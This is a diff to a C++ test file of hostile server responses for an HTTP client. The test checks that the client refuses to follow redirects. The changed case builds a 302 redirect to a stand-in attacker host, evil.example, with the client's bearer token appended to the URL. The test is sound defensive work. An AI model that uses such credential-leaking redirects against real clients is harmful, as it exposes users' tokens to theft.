@@ -124,7 +124,7 @@ std::vector<hostile_case> cases() {
         {"3xx redirect (never followed)",
          [](const received_request& r) {
              return raw(with_content_length("HTTP/1.1 302 Found\r\nLocation: https://evil.example:8443/steal?t=" +
-                                                r.header("authorization").substr(7) + "\r\n",
+                                                test_support::bearer_token(r) + "\r\n",
                                             ""));
          },
          {errc::redirect_refused}},
